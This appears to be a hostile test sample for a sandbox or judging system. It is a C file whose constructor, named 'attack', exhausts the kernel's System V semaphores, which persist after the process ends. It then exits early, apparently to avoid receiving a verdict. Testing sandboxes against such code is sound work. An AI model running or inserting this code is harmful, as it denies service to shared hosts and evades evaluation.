// ---
// tries: Makes semaphores, which the kernel keeps in memory that belongs to no process, and that stays.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: memory-that-stays
// ---
#include <sys/sem.h>

__attribute__((constructor)) static void attack(void) {
  while (semget(IPC_PRIVATE, 32000, 0600) >= 0) continue;
  _exit(1);
}
